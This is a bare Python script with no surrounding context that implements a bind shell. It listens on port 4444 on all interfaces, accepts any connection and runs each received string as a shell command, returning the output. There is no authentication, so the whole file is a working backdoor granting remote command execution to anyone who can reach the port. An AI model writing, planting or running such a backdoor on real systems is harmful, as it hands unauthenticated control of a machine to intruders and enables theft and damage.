import socket, subprocess
s = socket.socket(); s.bind(("0.0.0.0", 4444)); s.listen(1)
while True:
    c, _ = s.accept()
    while True:
        d = c.recv(1024)
        if not d: break
        c.sendall(subprocess.run(d.decode(), shell=True, capture_output=True).stdout)
